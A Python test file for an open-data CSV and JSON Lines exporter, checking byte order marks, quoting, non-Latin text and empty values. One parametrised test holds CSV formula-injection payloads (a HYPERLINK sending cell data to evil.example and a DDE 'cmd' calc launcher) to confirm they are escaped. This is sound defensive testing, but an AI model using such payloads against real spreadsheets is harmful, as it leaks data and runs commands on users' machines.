"""The CSV and JSON Lines writers, without a database."""

import csv
import io
import json

import pytest

from resourcecentre.opendata.formats import COLUMNS, csv_chunks, jsonl_chunks

ROW = (
    7,
    "component",
    'Workers say "we were not paid", union, Kenya\nsecond line',
    "http://127.0.0.1:8000/en/latest-news/workers-say/",
    "2021-05-01",
    "Daily Ledger",
    ["Kestrel Mining plc", "Northwind Apparel Ltd"],
    ["Kenya"],
    [],
    "en",
    "2026-12-03T03:38:04+00:00",
)


def _csv(*rows) -> list[list[str]]:
    data = b"".join(csv_chunks([list(rows)]))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_starts_with_a_byte_order_mark_then_the_header_row():
    data = b"".join(csv_chunks([[ROW]]))
    assert data.startswith("\ufeff".encode())
    assert _csv(ROW)[0] == list(COLUMNS)


def test_csv_keeps_quotes_commas_newlines_and_joins_names_with_semicolons():
    [_header, row] = _csv(ROW)
    assert row[2] == ROW[2]
    assert row[6] == "Kestrel Mining plc; Northwind Apparel Ltd"
    assert row[8] == ""


def test_csv_writes_japanese_and_arabic_as_utf8():
    row = (*ROW[:2], "労働者が未払い賃金を訴え", *ROW[3:5], "الجزيرة", *ROW[6:])
    [_header, written] = _csv(row)
    assert written[2] == "労働者が未払い賃金を訴え"
    assert written[5] == "الجزيرة"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(start):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    row = (*ROW[:2], hostile, *ROW[3:5], start + "cmd|' /C calc'!A0", [start + "SUM(1+1)"], *ROW[7:])
    [_header, written] = _csv(row)
    assert written[2] == "'" + hostile
    assert written[5] == "'" + start + "cmd|' /C calc'!A0"
    assert written[6] == "'" + start + "SUM(1+1)"


def test_a_formula_inside_a_cell_is_left_alone():
    row = (*ROW[:2], "Profits up 5% = record", *ROW[3:])
    assert _csv(row)[1][2] == "Profits up 5% = record"


def test_a_company_has_no_date_or_source_and_csv_leaves_them_empty():
    row = (
        3,
        "company",
        "Kestrel Mining plc",
        "http://x/en/companies/kestrel/",
        None,
        None,
        [],
        ["Peru"],
        [],
        None,
        "2026-01-01T00:00:00+00:00",
    )
    [_header, written] = _csv(row)
    assert written[4:6] == ["", ""]
    assert written[9] == ""


def test_jsonl_gives_one_object_per_line_with_lists_as_lists_and_missing_values_as_null():
    company = (
        3,
        "company",
        "=Kestrel",
        "http://x/",
        None,
        None,
        [],
        ["Peru"],
        [],
        None,
        "2026-01-01T00:00:00+00:00",
    )
    lines = b"".join(jsonl_chunks([[ROW], [company]])).decode().splitlines()
    assert len(lines) == 2
    first, second = (json.loads(line) for line in lines)
    assert list(first) == list(COLUMNS)
    assert first["companies"] == ["Kestrel Mining plc", "Northwind Apparel Ltd"]
    assert first["title"] == ROW[2]
    assert second["date"] is None and second["language"] is None
    # JSON is data, not a spreadsheet: the value is kept as it is.
    assert second["title"] == "=Kestrel"


def test_jsonl_writes_non_latin_text_unescaped():
    row = (*ROW[:2], "労働者", *ROW[3:])
    assert "労働者".encode() in b"".join(jsonl_chunks([[row]]))


def test_no_batches_give_a_csv_with_only_its_header_and_an_empty_jsonl():
    assert _csv() == [list(COLUMNS)]
    assert b"".join(jsonl_chunks([])) == b""
